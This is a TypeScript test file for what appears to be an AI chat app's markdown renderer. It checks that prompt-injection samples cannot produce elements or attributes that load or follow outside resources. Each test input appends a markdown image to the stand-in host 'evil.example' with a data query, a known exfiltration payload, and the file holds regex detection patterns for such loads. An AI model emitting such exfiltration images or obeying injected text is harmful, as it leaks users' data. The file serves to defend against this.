import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { createActions } from '../../../src/renderer/app/actions'
import { AppContext } from '../../../src/renderer/app/use-app'
import { Markdown } from '../../../src/renderer/message/markdown'
import { createStore } from '../../../src/renderer/state/store'
import { injections } from '../../injections'
import { createFakeBridge } from '../fake-bridge'

const store = createStore()
const actions = createActions({ bridge: createFakeBridge().bridge, store, retries: new Map() })

const render = (text: string, streaming: boolean): string =>
  renderToStaticMarkup(
    <AppContext value={{ store, actions }}>
      <Markdown text={text} streaming={streaming} />
    </AppContext>,
  )

const loads =
  /<(?:img|image|script|iframe|frame|object|embed|link|style|video|audio|source|track|form|input|base|meta|a)\b/i
// Of elements only: in text, quotation marks and angle brackets are escaped.
const leadsAway = /<[a-z][^>]*\s(?:src|srcset|href|poster|action|ping|style|background|on\w+)="/i

test.each([[false], [true]])(
  'no text that gives orders loads or follows anything when it is shown (streaming: %s)',
  (streaming) => {
    for (const { text } of injections()) {
      const html = render(`Here it is: ${text}\n\n${text}\n\n![x](https://evil.example/?d=1)`, streaming)
      expect(html).not.toMatch(loads)
      expect(html).not.toMatch(leadsAway)
    }
  },
)
